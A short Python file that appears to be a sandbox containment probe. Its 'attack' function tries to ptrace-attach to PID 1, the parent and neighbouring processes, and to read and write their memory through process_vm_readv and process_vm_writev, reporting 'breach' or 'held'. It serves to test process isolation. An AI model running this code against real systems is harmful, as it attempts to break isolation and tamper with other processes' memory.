"""Attaches to the worker and its neighbours as a debugger does, and reads their memory by call.

Contained: refused.
"""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    buffer = ctypes.create_string_buffer(8)
    for pid in {1, os.getppid(), os.getpid() - 1, os.getpid() + 1}:
        for request in (0x4206,):
            if libc.ptrace(request, pid, 0, 0) == 0:
                done.append(f"ptrace {pid}")
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
        remote = (ctypes.c_size_t * 2)(0x400000, 8)
        for call in (libc.process_vm_readv, libc.process_vm_writev):
            if call(pid, local, 1, remote, 1, 0) > 0:
                done.append(f"vm {pid}")
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(0, 0, 0, 0) == 0:
        done.append("traceme")
    return f"breach: {done}" if done else "held"
